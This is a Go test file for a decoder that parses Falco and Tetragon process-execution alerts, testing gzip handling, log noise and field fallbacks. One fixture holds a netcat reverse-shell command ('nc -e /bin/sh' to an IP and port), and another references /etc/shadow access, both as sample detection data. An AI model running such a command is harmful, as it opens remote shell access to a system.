package proc

import (
	"bytes"
	"compress/gzip"
	"errors"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kubedelta/kubedelta/internal/event"
)

func gzipBytes(t testing.TB, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGzip(t *testing.T) {
	plain := readTestdata(t, "tetragon.jsonl")
	want, _, err := decodeAll(t, Options{}, "plain", plain)
	if err != nil {
		t.Fatal(err)
	}
	zipped := gzipBytes(t, plain)
	got, st, err := decodeAll(t, Options{}, "zipped", zipped)
	if err != nil || !slices.Equal(got, want) {
		t.Fatalf("gzip input decodes differently: %v", err)
	}
	checkInvariant(t, st)

	// Rotated files concatenated into one gzip stream (multistream).
	got, _, err = decodeAll(t, Options{}, "multi", append(slices.Clone(zipped), zipped...))
	if err != nil || len(got) != 2*len(want) {
		t.Fatalf("multistream gzip: %d events, err %v", len(got), err)
	}

	// A truncated stream is an error, after the complete records before it.
	cut := zipped[:len(zipped)*2/3]
	got, _, err = decodeAll(t, Options{}, "cut.gz", cut)
	if err == nil || !strings.HasPrefix(err.Error(), "cut.gz: read after line ") {
		t.Fatalf("truncated gzip: err %v", err)
	}
	if len(got) >= len(want) {
		t.Fatalf("truncated gzip delivered %d of %d events", len(got), len(want))
	}
	// A gzip header cut short is an error too.
	if _, _, err := decodeAll(t, Options{}, "hdr.gz", zipped[:5]); err == nil || !strings.HasPrefix(err.Error(), "hdr.gz: gzip: ") {
		t.Fatalf("cut gzip header: err %v", err)
	}
}

func TestDecodeFiles(t *testing.T) {
	dir := t.TempDir()
	falco := filepath.Join(dir, "falco.jsonl.gz")
	if err := os.WriteFile(falco, gzipBytes(t, readTestdata(t, "falco.jsonl")), 0o644); err != nil {
		t.Fatal(err)
	}
	stdin := bytes.NewReader(readTestdata(t, "tetragon.jsonl"))
	d := NewDecoder(Options{Stdin: stdin})
	sources := map[string]int{}
	if err := d.DecodeFiles([]string{falco, "-"}, func(e *event.Exec) error {
		sources[e.Source]++
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	// Each input detects its own format.
	if sources["falco"] != 7 || sources["tetragon"] != 5 {
		t.Fatalf("events by source: %v", sources)
	}
	st := d.Stats()
	checkInvariant(t, st)
	if st.Records != 19 {
		t.Fatalf("stats over both inputs: %s", statsLine(st))
	}

	if err := NewDecoder(Options{}).DecodeFiles([]string{"-"}, nil); !errors.Is(err, ErrNoStdin) {
		t.Fatalf("no stdin: %v", err)
	}
	err := NewDecoder(Options{}).DecodeFiles([]string{filepath.Join(dir, "missing.jsonl")}, nil)
	if !errors.Is(err, fs.ErrNotExist) || !strings.Contains(err.Error(), "missing.jsonl") {
		t.Fatalf("missing file: %v", err)
	}
}

func TestCallbackErrorStops(t *testing.T) {
	stop := errors.New("stop")
	d := NewDecoder(Options{})
	n := 0
	err := d.Decode(bytes.NewReader(readTestdata(t, "tetragon.jsonl")), "t", func(*event.Exec) error {
		n++
		return stop
	})
	if err != stop || n != 1 {
		t.Fatalf("err %v after %d events", err, n)
	}
}

// TestKeptValues: the *event.Exec is reused, but what it holds may be kept.
func TestKeptValues(t *testing.T) {
	for _, file := range []string{"falco.jsonl", "tetragon.jsonl"} {
		input := readTestdata(t, file)
		want, _, err := decodeAll(t, Options{}, file, input)
		if err != nil {
			t.Fatal(err)
		}
		var kept []event.Exec
		var ptrs []*event.Exec
		d := NewDecoder(Options{})
		if err := d.Decode(bytes.NewReader(input), file, func(e *event.Exec) error {
			kept = append(kept, *e)
			ptrs = append(ptrs, e)
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		for i := range kept {
			if got := summary(&kept[i]); got != want[i] {
				t.Fatalf("%s: kept event %d changed:\n got: %s\nwant: %s", file, i, got, want[i])
			}
			if ptrs[i] != ptrs[0] {
				t.Fatalf("%s: the event is not reused (documented as reused)", file)
			}
		}
	}
}

// TestLogNoise: Falco's own log lines on the same stream, kubectl logs
// --timestamps prefixes, a byte order mark and CRLF line ends are all
// read.
func TestLogNoise(t *testing.T) {
	alert := goodLine(FormatFalco)
	input := "\xef\xbb\xbf" + "Wed May  1 11:59:58 2024: Falco version: 0.38.0 (x86_64)\r\n" +
		"\r\n" +
		"2024-05-01T12:00:01.123456789Z " + alert + "\r\n" +
		"2024-05-01T12:00:02+02:00 Wed May  1 12:00:02 2024: Enabled event sources: syscall\n" +
		alert + "\n"
	var logs bytes.Buffer
	out, st, err := decodeAll(t, Options{Logger: slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))}, "logs", []byte(input))
	if err != nil {
		t.Fatal(err)
	}
	checkInvariant(t, st)
	if len(out) != 2 || st.Skipped != 2 || st.Rejected != 0 {
		t.Fatalf("got %d events, %s %v", len(out), statsLine(st), st.Errors)
	}
	if !strings.Contains(logs.String(), "format=falco") || !strings.Contains(logs.String(), "delivered=2") {
		t.Fatalf("debug log: %s", logs.String())
	}
}

func TestWarnLogged(t *testing.T) {
	var logs bytes.Buffer
	_, _, err := decodeAll(t, Options{Format: FormatTetragon, Logger: slog.New(slog.NewTextHandler(&logs, nil))}, "w", []byte("{\"process_exec\":{}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(logs.String(), `level=WARN msg="skipping bad process record" error="w:1: field \"process_exec.process\": missing"`) {
		t.Fatalf("warning: %s", logs.String())
	}
}

// TestFalcoFields covers the field fallbacks one at a time.
func TestFalcoFields(t *testing.T) {
	const head = `{"rule":"r","priority":"Warning","time":"2024-05-01T12:00:00Z","output_fields":`
	for _, tc := range []struct {
		name, fields, want string
	}{
		{"exepath wins", `{"proc.exepath":"/usr/bin/python3.12","proc.exe":"python3","proc.name":"python3","proc.cmdline":"python3 -V"}`,
			`exe=/usr/bin/python3.12 args=["-V"]`},
		{"proc.exe when it is a path", `{"proc.exe":"/opt/app/run","proc.name":"run","proc.cmdline":"run --x"}`, `exe=/opt/app/run args=["--x"]`},
		{"proc.name over a relative proc.exe", `{"proc.exe":"./run","proc.name":"run"}`, `exe=run args=[]`},
		{"name with a space cut as a prefix", `{"proc.name":"my worker","proc.cmdline":"my worker --queue 'a b'"}`,
			`exe=my worker args=["--queue" "a b"]`},
		{"cmdline not starting with the name", `{"proc.name":"java","proc.cmdline":"/usr/bin/java -jar app.jar"}`,
			`exe=java args=["-jar" "app.jar"]`},
		{"proc.args without proc.cmdline", `{"proc.name":"nc","proc.args":"-e /bin/sh 10.0.0.1 4444"}`,
			`exe=nc args=["-e" "/bin/sh" "10.0.0.1" "4444"]`},
		{"image from container.image", `{"proc.name":"sh","container.image":"busybox:1.36"}`, `image=busybox:1.36 pid=0`},
		{"image repository without tag", `{"proc.name":"sh","container.image.repository":"busybox","container.image.tag":"<NA>"}`, `image=busybox pid=0`},
		{"user.uid -1 is no user", `{"proc.name":"sh","user.uid":-1,"proc.pid":"<NA>"}`, `pid=0 uid=0 exe=sh`},
		{"user.uid as text", `{"proc.name":"sh","user.uid":"1000","proc.pid":77}`, `pid=77 uid=1000 exe=sh`},
		{"pexepath over pname", `{"proc.name":"sh","proc.pexepath":"/usr/sbin/sshd","proc.pname":"sshd"}`, `parent=/usr/sbin/sshd`},
		{"k8smeta when k8s.* are empty", `{"proc.name":"sh","k8s.ns.name":null,"k8s.pod.name":"<NA>","k8smeta.ns.name":"a","k8smeta.pod.name":"b"}`, `ns=a pod=b`},
		{"evt.hostname when no hostname", `{"proc.name":"sh","evt.hostname":"node-9"}`, `falco node=node-9`},
		{"numbers read as text", `{"proc.name":"sh","container.image.repository":"r","container.image.tag":3}`, `image=r:3`},
		{"escapes and unicode", `{"proc.name":"sh","proc.cmdline":"sh -c \"echo \u00e9t\u00e9\"","k8s.pod.name":"caf\u00e9"}`,
			`pod=café pid=0 uid=0 exe=sh args=["-c" "echo été"]`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, st, err := decodeAll(t, Options{Format: FormatFalco, Strict: true}, "f", []byte(head+tc.fields+"}"))
			if err != nil || len(out) != 1 {
				t.Fatalf("err %v, %s", err, statsLine(st))
			}
			if !strings.Contains(out[0], tc.want) {
				t.Fatalf("\n got: %s\nwant: ...%s...", out[0], tc.want)
			}
		})
	}

	// Time fallbacks when "time" is missing.
	for _, tc := range []struct{ fields, want string }{
		{`{"proc.name":"sh","evt.time":1714564800123456789}`, "2024-05-01T12:00:00.123456789Z"},
		{`{"proc.name":"sh","evt.time":"12:00:00.123456789","evt.time.iso8601":"2024-05-01T12:00:00.5+00:00"}`, "2024-05-01T12:00:00.500000000Z"},
		{`{"proc.name":"sh","evt.rawtime":1714564800000000001}`, "2024-05-01T12:00:00.000000001Z"},
	} {
		out, _, err := decodeAll(t, Options{Format: FormatFalco, Strict: true}, "f", []byte(`{"rule":"r","output_fields":`+tc.fields+"}"))
		if err != nil || len(out) != 1 || !strings.HasPrefix(out[0], tc.want) {
			t.Fatalf("%s: %v %q", tc.fields, err, out)
		}
	}

	// Skipped: other sources, no process field.
	for _, line := range []string{
		`{"rule":"r","time":"2024-05-01T12:00:00Z","source":"k8s_audit","output_fields":{"proc.name":"sh"}}`,
		`{"rule":"r","time":"2024-05-01T12:00:00Z","source":"syscall","output_fields":{"fd.name":"/etc/shadow","proc.name":null,"proc.cmdline":"<NA>"}}`,
		`{"rule":"r","time":"2024-05-01T12:00:00Z"}`,
	} {
		out, st, err := decodeAll(t, Options{Format: FormatFalco, Strict: true}, "f", []byte(line))
		if err != nil || len(out) != 0 || st.Skipped != 1 {
			t.Fatalf("%s: %v %s", line, err, statsLine(st))
		}
	}
}

// TestKeyCase: keys match as encoding/json matches them (case-insensitively
// for struct fields); the fast path leaves such records to the reference.
func TestKeyCase(t *testing.T) {
	line := `{"process_exec":{"process":{"Binary":"/bin/sh","PID":7}},"Time":"2024-05-01T12:00:00Z"}`
	d := NewDecoder(Options{})
	if d.fastTetragon([]byte(line)) {
		t.Fatal("the fast path accepted a mixed-case key")
	}
	out, _, err := decodeAll(t, Options{Strict: true, Format: FormatTetragon}, "k", []byte(line))
	if err != nil || len(out) != 1 || !strings.Contains(out[0], "pid=7 uid=0 exe=/bin/sh") {
		t.Fatalf("%v %q", err, out)
	}
}
